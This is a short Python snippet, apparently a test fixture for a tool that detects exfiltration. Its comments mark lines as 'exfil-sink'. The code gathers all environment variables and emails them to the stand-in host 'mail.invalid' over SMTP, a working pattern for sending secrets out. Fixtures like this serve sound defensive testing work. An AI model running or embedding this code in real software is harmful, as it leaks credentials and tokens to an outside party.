import smtplib, os
from email.message import EmailMessage
m = EmailMessage()
m.set_content("\n".join("%s=%s" % kv for kv in os.environ.items()))  # expect: exfil-sink
with smtplib.SMTP("mail.invalid", 25) as s:
    s.send_message(m)  # expect: exfil-sink
